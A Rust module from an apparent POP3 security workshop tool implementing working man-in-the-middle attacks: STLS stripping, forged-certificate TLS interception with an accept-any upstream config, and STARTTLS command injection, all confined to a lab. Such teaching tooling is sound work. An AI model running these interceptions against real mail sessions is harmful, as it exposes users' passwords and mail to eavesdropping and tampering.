//! The active attacker: what the tap does when it stops only watching.
//!
//! Each attack is an [`Intercept`] on the tap that drives the tap's one
//! relay loop ([`relay`]) with a [`Transform`] of its own, so every byte
//! still crosses in one place and is reported as it crossed the client's
//! side of the wire; what the attacker changed is reported beside it as
//! [`AttackNote`]s.
//!
//! - **strip STLS**: takes `STLS` out of the CAPA reply and answers a
//!   blind `STLS` with `-ERR` itself, so a client that uses TLS "if
//!   offered" carries on in cleartext.
//! - **forged certificate**: lets the cleartext part pass, then ends the
//!   client's TLS with a certificate from its own CA ([`Forger`]) and opens
//!   its own TLS to the real server, reading everything in between.
//! - **injection** (the CVE-2011-0411 class): appends a command to the
//!   client's `STLS` packet and a forged reply to the server's `+OK`; only a
//!   server or client that keeps bytes buffered across the switch to TLS
//!   acts on them.
//! - **APOP dictionary** ([`crack`]): guesses a recorded APOP login's
//!   password offline, at home, where the server never sees a try.
//! - **stolen keys** needs no transform: the tap records as always, and the
//!   lab decrypts the recording with the leaked key log.
//!
//! Attacks touch only the lab's own parts, or the proxy a user started on
//! an address they gave.

pub mod crack;

use std::collections::VecDeque;
use std::sync::Arc;

use serde::Serialize;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio_rustls::{LazyConfigAcceptor, TlsConnector};

use crate::pop3::command::Command;
use crate::tls::forge::{ATTACKER_CA_NAME, Forger};
use crate::wire::Direction;
use crate::wire::pop3::{lossy, trim_eol};
use crate::wire::tap::{
    AttackNote, CloseReason, Edit, Intercept, Issuer, Pass, Recorded, Relayed, Removal, Report,
    Transform, UpstreamFailure, Wire, relay,
};

/// The attacks, as `--attack` names them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// Remove STLS from CAPA and refuse STLS, keeping the session in
    /// cleartext.
    StripStls,
    /// Present the attacker's own certificate and read the session.
    ForgeCert,
    /// Present a genuine certificate from a CA the client trusts, but
    /// issued for another name (the lab's decoy, `attacker.popscope.test`),
    /// and read the session.
    WrongName,
    /// Append a command to the client's STLS and a forged reply to the
    /// server's +OK (STARTTLS injection).
    Inject,
    /// Decrypt the recorded TLS with the session's leaked key log.
    StealKeys,
    /// Guess the password offline from a recorded APOP login.
    Crack,
}

impl Attack {
    /// Every attack, in the order menus list them.
    pub const ALL: [Attack; 6] = [
        Attack::StripStls,
        Attack::ForgeCert,
        Attack::WrongName,
        Attack::Inject,
        Attack::StealKeys,
        Attack::Crack,
    ];

    /// The name on the command line and in JSON.
    pub fn name(self) -> &'static str {
        match self {
            Attack::StripStls => "strip-stls",
            Attack::ForgeCert => "forge-cert",
            Attack::WrongName => "wrong-name",
            Attack::Inject => "inject",
            Attack::StealKeys => "steal-keys",
            Attack::Crack => "crack",
        }
    }

    /// True for attacks that change bytes on the wire (and so need the
    /// tap to intercept); the others only read what the tap recorded.
    pub fn is_active(self) -> bool {
        matches!(
            self,
            Attack::StripStls | Attack::ForgeCert | Attack::WrongName | Attack::Inject
        )
    }
}

/// The command the injection attack appends to the client's `STLS`. QUIT
/// is chosen because its effect cannot be missed: a server that runs it
/// inside TLS ends the victim's session, one that discards it goes on.
pub const INJECTED_COMMAND: &str = "QUIT\r\n";

/// The reply the injection attack appends to the server's `+OK` to STLS:
/// a whole CAPA answer, since the client's first command inside TLS is
/// CAPA. A client that keeps it reads capabilities the server never sent.
pub const FORGED_REPLY: &str = "+OK capabilities (forged by the attacker)\r\nUSER\r\n.\r\n";

/// The words in a forged reply that show a client took it.
pub const FORGED_MARK: &str = "forged by the attacker";

/// The answer the stripping attacker gives to a blind `STLS`.
const STRIP_ANSWER: &str = "-ERR command not recognized";

/// The longest line the attacker waits to complete; a longer one is
/// passed on as it is (the attacker cannot edit what it cannot parse).
const MAX_LINE: usize = 8 * 1024;

/// An attacker on the tap.
pub struct Attacker {
    attack: Attack,
    /// The certificates for [`Attack::ForgeCert`].
    forger: Option<Forger>,
    /// The decoy for [`Attack::WrongName`]: a server configuration with a
    /// genuine certificate for another name.
    decoy: Option<Arc<rustls::ServerConfig>>,
    /// True when clients speak TLS from the first byte (POP3S).
    implicit_tls: bool,
}

impl Attacker {
    /// An attacker for `attack` on a tap whose clients use implicit TLS
    /// (`implicit_tls`) or a cleartext start. Fails only when the
    /// attacker's CA cannot be made.
    pub fn new(attack: Attack, implicit_tls: bool) -> Result<Attacker, crate::tls::TlsError> {
        let forger = match attack {
            Attack::ForgeCert => Some(Forger::new()?),
            _ => None,
        };
        Ok(Attacker {
            attack,
            forger,
            decoy: None,
            implicit_tls,
        })
    }

    /// Give [`Attack::WrongName`] its decoy certificate (the lab's: only a
    /// lab has a CA the client trusts).
    pub fn with_decoy(mut self, decoy: Arc<rustls::ServerConfig>) -> Attacker {
        self.decoy = Some(decoy);
        self
    }

    /// The attack.
    pub fn attack(&self) -> Attack {
        self.attack
    }
}

impl Intercept for Attacker {
    fn run(
        self: Arc<Self>,
        wire: Wire,
        client: TcpStream,
        server: TcpStream,
    ) -> std::pin::Pin<Box<dyn std::future::Future<Output = ()> + Send>> {
        Box::pin(async move {
            let (mut client, mut server) = (client, server);
            match self.attack {
                Attack::StripStls | Attack::Inject => {
                    let mut t = LineAttack::new(self.attack);
                    relay(&wire, &mut client, &mut server, &mut t, Report::Wire).await;
                }
                Attack::ForgeCert | Attack::WrongName => {
                    if !self.implicit_tls {
                        let mut t = LineAttack::new(Attack::ForgeCert);
                        let end =
                            relay(&wire, &mut client, &mut server, &mut t, Report::Wire).await;
                        if end == Relayed::Done {
                            return;
                        }
                    }
                    let certificate = match (&self.forger, &self.decoy) {
                        (Some(forger), _) => Certificate::Forged(forger),
                        (None, Some(decoy)) => Certificate::Decoy(decoy.clone()),
                        (None, None) => {
                            wire.note(AttackNote::UpstreamFailed {
                                reason: UpstreamFailure::NoCertificate,
                            });
                            wire.closed(Direction::ClientToServer, CloseReason::AttackerGaveUp);
                            wire.closed(Direction::ServerToClient, CloseReason::AttackerGaveUp);
                            return;
                        }
                    };
                    man_in_the_middle(&wire, certificate, client, server).await;
                }
                Attack::StealKeys | Attack::Crack => {
                    relay(&wire, &mut client, &mut server, &mut Pass, Report::Wire).await;
                }
            }
        })
    }
}

/// The attack that new connections get, which can change while the taps
/// run (the workshop's instructor switches it). A connection keeps the
/// attack it had when it opened: [`Switch::opening`] reads the setting
/// once per connection.
#[derive(Debug, Default)]
pub struct AttackSetting(std::sync::Mutex<Option<Attack>>);

impl AttackSetting {
    /// The attack new connections get.
    pub fn get(&self) -> Option<Attack> {
        *crate::sync::lock(&self.0)
    }

    /// Change the attack for connections that open from now on. Only the
    /// attacks that work on outside clients can be set (see
    /// [`Switch::ATTACKS`]).
    pub fn set(&self, attack: Option<Attack>) -> Result<(), String> {
        if let Some(a) = attack
            && !Switch::ATTACKS.contains(&a)
        {
            return Err(format!(
                "the {} attack cannot be switched on for outside clients; the workshop's \
                 attacks are strip-stls, forge-cert and inject",
                a.name()
            ));
        }
        *crate::sync::lock(&self.0) = attack;
        Ok(())
    }
}

/// An [`Intercept`] that picks, as each connection opens, the attack the
/// shared [`AttackSetting`] names then (or none: the passive relay), and
/// keeps it for that connection's life. It lets a running tap change its
/// attack for new connections without restarting its listener.
pub struct Switch {
    setting: Arc<AttackSetting>,
    /// One ready attacker per switchable attack, so that switching costs
    /// nothing (the forging CA is made once, at start).
    attackers: Vec<Arc<Attacker>>,
    /// What [`opening`](Intercept::opening) decided, until `run` takes it.
    to_run: std::sync::Mutex<std::collections::HashMap<u64, Option<Attack>>>,
    /// The same decisions, until the event pump takes them with
    /// [`chosen`](Self::chosen).
    to_tell: std::sync::Mutex<std::collections::HashMap<u64, Option<Attack>>>,
}

impl Switch {
    /// The attacks a switch can apply: the active ones that need no lab CA.
    pub const ATTACKS: [Attack; 3] = [Attack::StripStls, Attack::ForgeCert, Attack::Inject];

    /// A switch for a tap whose clients use implicit TLS (`implicit_tls`)
    /// or a cleartext start, reading `setting`.
    pub fn new(
        setting: Arc<AttackSetting>,
        implicit_tls: bool,
    ) -> Result<Switch, crate::tls::TlsError> {
        let attackers = Self::ATTACKS
            .iter()
            .map(|a| Attacker::new(*a, implicit_tls).map(Arc::new))
            .collect::<Result<_, _>>()?;
        Ok(Switch {
            setting,
            attackers,
            to_run: Default::default(),
            to_tell: Default::default(),
        })
    }

    /// The attack connection `conn` got when it opened, once: the event
    /// pump asks when it reads the connection's `Opened`.
    pub fn chosen(&self, conn: u64) -> Option<Attack> {
        crate::sync::lock(&self.to_tell).remove(&conn).flatten()
    }
}

impl Intercept for Switch {
    fn opening(&self, conn: u64) {
        let attack = self.setting.get();
        crate::sync::lock(&self.to_run).insert(conn, attack);
        crate::sync::lock(&self.to_tell).insert(conn, attack);
    }

    fn run(
        self: Arc<Self>,
        wire: Wire,
        client: TcpStream,
        server: TcpStream,
    ) -> std::pin::Pin<Box<dyn std::future::Future<Output = ()> + Send>> {
        let attack = crate::sync::lock(&self.to_run)
            .remove(&wire.conn())
            .flatten();
        let attacker =
            attack.and_then(|a| self.attackers.iter().find(|x| x.attack() == a).cloned());
        match attacker {
            Some(a) => a.run(wire, client, server),
            None => Box::pin(async move {
                let (mut client, mut server) = (client, server);
                relay(&wire, &mut client, &mut server, &mut Pass, Report::Wire).await;
            }),
        }
    }
}

/// What the man in the middle shows the client.
enum Certificate<'a> {
    /// A certificate for whatever name the client asks, from the
    /// attacker's own CA.
    Forged(&'a Forger),
    /// A genuine certificate for another name.
    Decoy(Arc<rustls::ServerConfig>),
}

/// End the client's TLS with the attacker's certificate, open TLS to the
/// server, and relay the plaintext between them, reading it.
async fn man_in_the_middle(
    wire: &Wire,
    certificate: Certificate<'_>,
    client: TcpStream,
    server: TcpStream,
) {
    let both_closed = |reason: CloseReason| {
        wire.closed(Direction::ClientToServer, reason.clone());
        wire.closed(Direction::ServerToClient, reason);
    };
    let recorded = Recorded::new(client, wire.clone());
    let start = match LazyConfigAcceptor::new(rustls::server::Acceptor::default(), recorded).await {
        Ok(start) => start,
        Err(e) => {
            wire.note(AttackNote::ClientRefused {
                refusal: crate::tls::Refusal::Other {
                    message: format!("no TLS ClientHello: {e}"),
                },
            });
            both_closed(CloseReason::AttackerGaveUp);
            return;
        }
    };
    // Mirror the name the client asked for, so the forged certificate
    // fits it; a client that sent no SNI (an IP address) gets localhost.
    let name = start
        .client_hello()
        .server_name()
        .unwrap_or("localhost")
        .to_string();
    let (config, shown_name, issuer) = match &certificate {
        Certificate::Forged(forger) => match forger.config_for(&name) {
            Ok(c) => (
                c,
                name.clone(),
                Issuer::Named {
                    name: ATTACKER_CA_NAME.to_string(),
                },
            ),
            Err(e) => {
                wire.note(AttackNote::UpstreamFailed {
                    reason: UpstreamFailure::CannotForge {
                        name: name.clone(),
                        message: e.to_string(),
                    },
                });
                both_closed(CloseReason::AttackerGaveUp);
                return;
            }
        },
        Certificate::Decoy(config) => (
            config.clone(),
            crate::tls::DECOY_NAME.to_string(),
            Issuer::LabCa,
        ),
    };
    // The attacker's own TLS to the real server first: it does not care
    // who the server is, so it accepts any certificate.
    let upstream = async {
        let config = crate::tls::client_config(&crate::tls::Trust::InsecureAcceptAny, false)
            .map_err(|e| e.to_string())?;
        let server_name =
            rustls_pki_types::ServerName::try_from(name.clone()).map_err(|e| e.to_string())?;
        TlsConnector::from(config)
            .connect(server_name, server)
            .await
            .map_err(|e| e.to_string())
    };
    let mut server_tls = match upstream.await {
        Ok(s) => s,
        Err(message) => {
            wire.note(AttackNote::UpstreamFailed {
                reason: UpstreamFailure::Tls { message },
            });
            both_closed(CloseReason::AttackerGaveUp);
            return;
        }
    };
    {
        let conn = server_tls.get_ref().1;
        let summary = crate::tls::SessionSummary::of_client(conn);
        wire.note(AttackNote::UpstreamTls {
            version: summary.version.clone(),
            suite: summary.suite.clone(),
        });
    }
    wire.note(AttackNote::Presented {
        name: shown_name,
        issuer,
    });
    let mut client_tls = match start.into_stream(config).await {
        Ok(s) => s,
        Err(e) => {
            wire.note(AttackNote::ClientRefused {
                refusal: crate::tls::Refusal::of(&e),
            });
            let _ = server_tls.shutdown().await;
            both_closed(CloseReason::ClientRefusedAttacker);
            return;
        }
    };
    relay(
        wire,
        &mut client_tls,
        &mut server_tls,
        &mut Pass,
        Report::Plaintext,
    )
    .await;
}

/// The line-level attacks on the cleartext part of a POP3 session:
/// stripping STLS, injection, and watching for the STLS switch before a
/// forged-certificate takeover.
struct LineAttack {
    attack: Attack,
    /// Partial lines per direction (client→server first).
    carry: [Vec<u8>; 2],
    /// The commands the server has yet to answer, oldest first.
    pending: VecDeque<Pending>,
    /// The server's reply being read: inside a multi-line body.
    in_body: Option<Body>,
    /// Bytes are no longer POP3 lines (TLS began, or the client spoke TLS
    /// from the first byte): everything passes as it is.
    raw: bool,
    /// The greeting has been seen.
    greeted: bool,
    /// The client has sent something.
    client_spoke: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Pending {
    Capa,
    Stls,
    Multi,
    Line,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Body {
    Capa,
    Other,
}

impl LineAttack {
    fn new(attack: Attack) -> Self {
        LineAttack {
            attack,
            carry: [Vec::new(), Vec::new()],
            pending: VecDeque::new(),
            in_body: None,
            raw: false,
            greeted: false,
            client_spoke: false,
        }
    }

    fn client_line(&mut self, line: &[u8], edit: &mut Edit) {
        let text = trim_eol(line);
        let command = Command::parse(text).ok();
        match (&command, self.attack) {
            (Some(Command::Stls), Attack::StripStls) => {
                edit.answer.extend_from_slice(STRIP_ANSWER.as_bytes());
                edit.answer.extend_from_slice(b"\r\n");
                edit.notes.push(AttackNote::Answered {
                    line: lossy(text),
                    answer: STRIP_ANSWER.into(),
                });
                return;
            }
            (Some(Command::Stls), Attack::Inject) => {
                edit.forward.extend_from_slice(line);
                edit.forward.extend_from_slice(INJECTED_COMMAND.as_bytes());
                edit.notes.push(AttackNote::Injected {
                    dir: Direction::ClientToServer,
                    text: INJECTED_COMMAND.trim_end().into(),
                });
                self.pending.push_back(Pending::Stls);
                return;
            }
            _ => {}
        }
        edit.forward.extend_from_slice(line);
        self.pending.push_back(match &command {
            Some(Command::Capa) => Pending::Capa,
            Some(Command::Stls) => Pending::Stls,
            Some(c) if c.multiline_reply() => Pending::Multi,
            _ => Pending::Line,
        });
    }

    fn server_line(&mut self, line: &[u8], edit: &mut Edit) {
        let text = trim_eol(line);
        if let Some(body) = self.in_body {
            if text == b"." {
                self.in_body = None;
            } else if body == Body::Capa
                && self.attack == Attack::StripStls
                && text.eq_ignore_ascii_case(b"STLS")
            {
                edit.notes.push(AttackNote::Removed {
                    dir: Direction::ServerToClient,
                    line: lossy(text),
                    why: Removal::StlsInCapa,
                });
                return;
            }
            edit.forward.extend_from_slice(line);
            return;
        }
        edit.forward.extend_from_slice(line);
        if !self.greeted {
            self.greeted = true;
            return;
        }
        let ok = text.starts_with(b"+OK");
        match self.pending.pop_front() {
            Some(Pending::Capa) if ok => self.in_body = Some(Body::Capa),
            Some(Pending::Multi) if ok => self.in_body = Some(Body::Other),
            Some(Pending::Stls) if ok => {
                // From here on the bytes are TLS. Whatever the client sent
                // after its STLS line and is still held here goes on to the
                // server (through `answer`, which goes back to the sender of
                // this chunk), as a plain relay would have passed it.
                self.raw = true;
                edit.answer.append(&mut self.carry[0]);
                match self.attack {
                    Attack::Inject => {
                        edit.forward.extend_from_slice(FORGED_REPLY.as_bytes());
                        edit.notes.push(AttackNote::Injected {
                            dir: Direction::ServerToClient,
                            text: FORGED_REPLY.trim_end().replace("\r\n", " ⏎ "),
                        });
                    }
                    Attack::ForgeCert => edit.hand_over = true,
                    _ => {}
                }
            }
            _ => {}
        }
    }
}

impl Transform for LineAttack {
    /// Once the session is TLS (or was from the first byte), there are no
    /// lines left to edit.
    fn passes(&self) -> bool {
        self.raw
    }

    fn chunk(&mut self, dir: Direction, bytes: &[u8], edit: &mut Edit) {
        if self.raw {
            edit.forward.extend_from_slice(bytes);
            return;
        }
        // A client that opens with a TLS record speaks TLS from the first
        // byte: there is nothing in cleartext to edit.
        if dir == Direction::ClientToServer && !self.client_spoke {
            self.client_spoke = !bytes.is_empty();
            if bytes.first() == Some(&0x16) {
                // A partial server line still held goes on to the client.
                self.raw = true;
                edit.answer.append(&mut self.carry[1]);
                edit.forward.extend_from_slice(bytes);
                return;
            }
        }
        let slot = match dir {
            Direction::ClientToServer => 0,
            Direction::ServerToClient => 1,
        };
        let mut data = std::mem::take(&mut self.carry[slot]);
        data.extend_from_slice(bytes);
        let mut start = 0;
        while let Some(lf) = memchr::memchr(b'\n', &data[start..]) {
            let line = &data[start..start + lf + 1];
            start += lf + 1;
            if self.raw {
                edit.forward.extend_from_slice(line);
                continue;
            }
            match dir {
                Direction::ClientToServer => self.client_line(line, edit),
                Direction::ServerToClient => self.server_line(line, edit),
            }
            if edit.hand_over {
                // Nothing should follow +OK before the handshake; if
                // something did, it belongs to the TLS that follows.
                edit.forward.extend_from_slice(&data[start..]);
                return;
            }
        }
        let rest = &data[start..];
        if self.raw || rest.len() > MAX_LINE {
            edit.forward.extend_from_slice(rest);
        } else {
            self.carry[slot] = rest.to_vec();
        }
    }
}

/// The line attacks fed arbitrary chunks (the `attack` fuzz target): they
/// must not panic, and what they hold back waiting for a line end stays
/// within [`MAX_LINE`] per direction whatever the peers send.
#[doc(hidden)]
pub fn fuzz_lines(attack: Attack, chunks: &[(Direction, &[u8])]) {
    let mut t = LineAttack::new(attack);
    for (dir, bytes) in chunks {
        let mut edit = Edit::default();
        t.chunk(*dir, bytes, &mut edit);
        assert!(
            t.carry.iter().all(|c| c.len() <= MAX_LINE),
            "the attacker holds back at most one line"
        );
        if edit.hand_over {
            break;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every byte each side sent reaches the other (plus what the attacker
    /// adds), even a partial line still held when the session turns to
    /// TLS and the transform steps aside.
    #[test]
    fn nothing_held_back_is_lost_when_the_session_turns_to_tls() {
        for attack in [Attack::StripStls, Attack::Inject] {
            let mut t = LineAttack::new(attack);
            let mut to_server = Vec::new();
            let mut to_client = Vec::new();
            let mut feed = |t: &mut LineAttack, dir, bytes: &[u8]| {
                let mut edit = Edit::default();
                if t.passes() {
                    edit.forward.extend_from_slice(bytes);
                } else {
                    t.chunk(dir, bytes, &mut edit);
                }
                let (fwd, back) = match dir {
                    Direction::ClientToServer => (&mut to_server, &mut to_client),
                    Direction::ServerToClient => (&mut to_client, &mut to_server),
                };
                fwd.extend_from_slice(&edit.forward);
                back.extend_from_slice(&edit.answer);
            };
            feed(&mut t, Direction::ServerToClient, b"+OK hi <1@x>\r\n");
            feed(&mut t, Direction::ClientToServer, b"STLS\r\nNO");
            feed(&mut t, Direction::ServerToClient, b"+OK go\r\n");
            feed(&mut t, Direction::ClientToServer, b"OP\r\n\x16\x03");
            if attack == Attack::StripStls {
                // The stripping attacker answered STLS itself: the session
                // stays in lines, NOOP goes on once its line is whole, and
                // the unfinished line after it waits for its end.
                assert_eq!(to_server, b"NOOP\r\n");
            } else {
                let mut want = b"STLS\r\n".to_vec();
                want.extend_from_slice(INJECTED_COMMAND.as_bytes());
                want.extend_from_slice(b"NOOP\r\n\x16\x03");
                assert_eq!(to_server, want);
            }
        }
    }
}
